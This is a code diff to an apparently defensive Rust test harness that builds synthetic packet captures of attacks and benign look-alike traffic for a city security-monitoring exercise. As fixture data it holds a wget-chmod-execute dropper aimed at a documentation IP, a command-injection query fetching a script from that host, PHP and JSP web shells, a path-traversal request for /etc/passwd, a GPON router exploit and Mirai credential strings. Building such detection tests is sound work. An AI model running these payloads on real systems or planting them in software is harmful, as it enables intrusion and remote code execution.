@@ -12,6 +12,10 @@ pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS
 /// documentation address, fetching nothing that exists.
 pub const DROPPER: &[u8] = b"#!/bin/sh\ncd /tmp || cd /var/run\nwget http://203.0.113.66/bins/x.mips; chmod 777 x.mips; ./x.mips city.exploit\nwget http://203.0.113.66/bins/x.arm7; chmod 777 x.arm7; ./x.arm7 city.exploit\n";
 
+/// Strings of a Mirai-derived bot, in a file that is only those strings.
+pub const MIRAI_STRINGS: &[u8] =
+    b"\x7fELF\x01\x01\x01\0synthetic\0/bin/busybox MIRAI\0/dev/watchdog\0xmhdipc\07ujMko0admin\0vizxv\0";
+
 /// The update package the threat-intelligence case downloads; its SHA-256
 /// is listed in `rules/intel/misp-export.json`.
 pub const BAD_UPDATE: &[u8] = b"CITYSOC-SYNTHETIC-UPDATE-PACKAGE v1\n\x7fELF-not-really\n";
@@ -31,7 +35,8 @@ fn post(uri: &str, host: &str, ua: &str, ctype: &str, body: &[u8]) -> Vec<u8> {
 }
 
 fn ok(ctype: &str, body: &[u8]) -> Vec<u8> {
-    let mut r = format!("HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
+    let mut r =
+        format!("HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
     r.extend_from_slice(body);
     r
 }
@@ -51,15 +56,37 @@ pub(super) fn web_attacks() -> Cap {
         // Path traversal.
         (get("/download?file=../../../../etc/passwd", host, "Mozilla/5.0"), status(404, "Not Found")),
         // Command injection through a diagnostic page.
-        (get("/cgi-bin/diag.cgi?host=127.0.0.1%3bwget%20http://203.0.113.66/x.sh", host, "Mozilla/5.0"), status(403, "Forbidden")),
+        (
+            get("/cgi-bin/diag.cgi?host=127.0.0.1%3bwget%20http://203.0.113.66/x.sh", host, "Mozilla/5.0"),
+            status(403, "Forbidden"),
+        ),
         // A GPON router exploit.
-        (post("/GponForm/diag_Form?images/", host, "Hello, World", "text/plain", b"XWebPageName=diag&diag_action=ping"), status(404, "Not Found")),
+        (
+            post(
+                "/GponForm/diag_Form?images/",
+                host,
+                "Hello, World",
+                "text/plain",
+                b"XWebPageName=diag&diag_action=ping",
+            ),
+            status(404, "Not Found"),
+        ),
         // A PHP web shell uploaded, then the EICAR test file fetched.
         (
             post("/upload.php", host, "Mozilla/5.0", "application/octet-stream", b"<?php @eval($_POST['c']); ?>\n"),
             ok("text/plain", b"stored\n"),
         ),
         (get("/files/readme.txt", host, "Mozilla/5.0"), ok("text/plain", EICAR)),
+        (
+            post(
+                "/upload.jsp",
+                host,
+                "Mozilla/5.0",
+                "application/octet-stream",
+                b"<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
+            ),
+            ok("text/plain", b"stored\n"),
+        ),
     ];
     let mut t = 0;
     for (i, (req, resp)) in reqs.iter().enumerate() {
@@ -77,6 +104,17 @@ pub(super) fn web_attacks() -> Cap {
         &get("/x.sh", "203.0.113.66", "Wget"),
         &ok("text/x-sh", DROPPER),
     );
+    // And the binary the dropper names.
+    http_conversation(
+        &mut c,
+        t + 2 * S,
+        "10.30.0.44",
+        41001,
+        "203.0.113.66",
+        80,
+        &get("/bins/x.mips", "203.0.113.66", "Wget"),
+        &ok("application/octet-stream", MIRAI_STRINGS),
+    );
     c
 }
 
@@ -86,8 +124,16 @@ pub(super) fn web_benign() -> Cap {
     let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
     let reqs: Vec<(&str, Vec<u8>, Vec<u8>)> = vec![
         // Words that attack rules look for, not in attack syntax.
-        ("10.35.1.20", get("/news/2023/trade-unions-select-new-leaders.html", host, ua), ok("text/html", b"<html>news</html>")),
-        ("10.35.1.21", get("/search?q=union+of+select+committees&page=2", host, ua), ok("text/html", b"<html>results</html>")),
+        (
+            "10.35.1.20",
+            get("/news/2023/trade-unions-select-new-leaders.html", host, ua),
+            ok("text/html", b"<html>news</html>"),
+        ),
+        (
+            "10.35.1.21",
+            get("/search?q=union+of+select+committees&page=2", host, ua),
+            ok("text/html", b"<html>results</html>"),
+        ),
         ("10.35.1.22", get("/docs/passwd-reset-guide.pdf?v=1.2.3", host, ua), ok("application/pdf", b"%PDF-1.4 guide")),
         ("10.35.1.23", get("/api/ping?host=water.city.example", host, ua), ok("application/json", b"{\"ok\":true}")),
         ("10.35.1.24", get("/shelters/map?district=3", host, ua), ok("text/html", b"<html>map</html>")),
@@ -98,7 +144,21 @@ pub(super) fn web_benign() -> Cap {
             get("/scripts/backup.sh", host, ua),
             ok("text/x-sh", b"#!/bin/sh\ncd /tmp\ntar czf backup.tgz /srv/portal\nchmod 600 backup.tgz\n"),
         ),
-        ("10.35.1.26", get("/about.php", host, ua), ok("text/plain", b"<?php echo htmlspecialchars($_GET['name']); ?>\n")),
+        (
+            "10.35.1.26",
+            get("/about.php", host, ua),
+            ok("text/plain", b"<?php echo htmlspecialchars($_GET['name']); ?>\n"),
+        ),
+        (
+            "10.35.1.28",
+            get("/report.jsp", host, ua),
+            ok("text/html", b"<% String q = request.getParameter(\"q\"); out.println(q); %>"),
+        ),
+        (
+            "10.35.1.29",
+            get("/kb/watchdog.txt", host, ua),
+            ok("text/plain", b"Devices reboot when /dev/watchdog is not fed; see /bin/busybox docs.\n"),
+        ),
         (
             "10.35.1.27",
             get("/security/antivirus-test.html", host, ua),
@@ -121,6 +181,7 @@ pub(super) fn web_benign() -> Cap {
 }
 
 /// A connection attempt answered by RST (REJ) or by nothing (S0).
+#[allow(clippy::too_many_arguments)]
 fn probe(c: &mut Cap, t: i64, src: &str, sport: u16, dst: &str, dport: u16, open: bool, answered: bool) {
     let mut s = TcpSession::new(a(src), sport, a(dst), dport, 5_000, 9_000);
     c.ip(t, s.seg(true, SYN, &[]));
@@ -206,6 +267,7 @@ pub(super) fn dns_dyndns() -> Cap {
 }
 
 /// A full TCP exchange: handshake, a request and a reply, teardown.
+#[allow(clippy::too_many_arguments)]
 fn exchange(c: &mut Cap, t: i64, src: &str, sport: u16, dst: &str, dport: u16, req: &[u8], resp: &[u8]) {
     let mut s = TcpSession::new(a(src), sport, a(dst), dport, 15_000, 25_000);
     let mut t = t;
@@ -231,7 +293,16 @@ pub(super) fn exposure() -> Cap {
     // From the Internet: Telnet on a camera, MQTT on the sensor broker,
     // Modbus on a flood-gate controller.
     exchange(&mut c, 0, "198.51.100.14", 49000, "10.33.0.5", 23, b"admin\r\n", b"\xff\xfb\x01login: ");
-    exchange(&mut c, S, "198.51.100.14", 49001, "10.33.0.6", 1883, b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00", b"\x20\x02\x00\x00");
+    exchange(
+        &mut c,
+        S,
+        "198.51.100.14",
+        49001,
+        "10.33.0.6",
+        1883,
+        b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00",
+        b"\x20\x02\x00\x00",
+    );
     exchange(&mut c, 2 * S, "198.51.100.14", 49002, "10.33.0.7", 502, &mq, &mr);
     // Inside the city: an operator's laptop reads the same controller.
     exchange(&mut c, 3 * S, "10.33.1.50", 49003, "10.33.0.7", 502, &mq, &mr);
@@ -245,15 +316,43 @@ pub(super) fn exposure_benign() -> Cap {
     exchange(&mut c, 0, "10.33.9.5", 49100, "10.33.0.7", 502, &mq, &mr);
     // City hosts use the management services.
     exchange(&mut c, S, "10.33.1.51", 49101, "10.33.0.5", 23, b"admin\r\n", b"\xff\xfb\x01login: ");
-    exchange(&mut c, 2 * S, "10.33.1.52", 49102, "10.33.0.6", 1883, b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00", b"\x20\x02\x00\x00");
+    exchange(
+        &mut c,
+        2 * S,
+        "10.33.1.52",
+        49102,
+        "10.33.0.6",
+        1883,
+        b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00",
+        b"\x20\x02\x00\x00",
+    );
     // The Internet knocks on a management port but is refused.
     probe(&mut c, 3 * S, "198.51.100.15", 49103, "10.33.0.5", 23, false, true);
     // And reaches the public web portal, which is what it is for.
-    exchange(&mut c, 4 * S, "198.51.100.16", 49104, "10.33.0.80", 80, &get("/", "portal.city.example", "Mozilla/5.0"), &ok("text/html", b"<html>city</html>"));
+    exchange(
+        &mut c,
+        4 * S,
+        "198.51.100.16",
+        49104,
+        "10.33.0.80",
+        80,
+        &get("/", "portal.city.example", "Mozilla/5.0"),
+        &ok("text/html", b"<html>city</html>"),
+    );
     c
 }
 
-fn tls_conversation(c: &mut Cap, t0: i64, client: &str, cport: u16, server: &str, sni: &str, subject: &str, issuer: &str) {
+#[allow(clippy::too_many_arguments)]
+fn tls_conversation(
+    c: &mut Cap,
+    t0: i64,
+    client: &str,
+    cport: u16,
+    server: &str,
+    sni: &str,
+    subject: &str,
+    issuer: &str,
+) {
     let mut s = TcpSession::new(a(client), cport, a(server), 443, 31_000, 91_000);
     let mut t = t0;
     c.ip(t, s.seg(true, SYN, &[]));
@@ -285,9 +384,27 @@ fn tls_conversation(c: &mut Cap, t0: i64, client: &str, cport: u16, server: &str
 
 pub(super) fn tls_self_signed() -> Cap {
     let mut c = Cap::new(DLT_EN10MB);
-    tls_conversation(&mut c, 0, "10.34.0.10", 51000, "203.0.113.40", "cdn-sync.example", "cdn-sync.example", "cdn-sync.example");
+    tls_conversation(
+        &mut c,
+        0,
+        "10.34.0.10",
+        51000,
+        "203.0.113.40",
+        "cdn-sync.example",
+        "cdn-sync.example",
+        "cdn-sync.example",
+    );
     // Look-alike: a name that contains its issuer's name, signed by the city CA.
-    tls_conversation(&mut c, S, "10.34.0.11", 51001, "10.34.0.43", "City Issuing CA", "City Issuing CA portal", "City Issuing CA");
+    tls_conversation(
+        &mut c,
+        S,
+        "10.34.0.11",
+        51001,
+        "10.34.0.43",
+        "City Issuing CA",
+        "City Issuing CA portal",
+        "City Issuing CA",
+    );
     c
 }
 
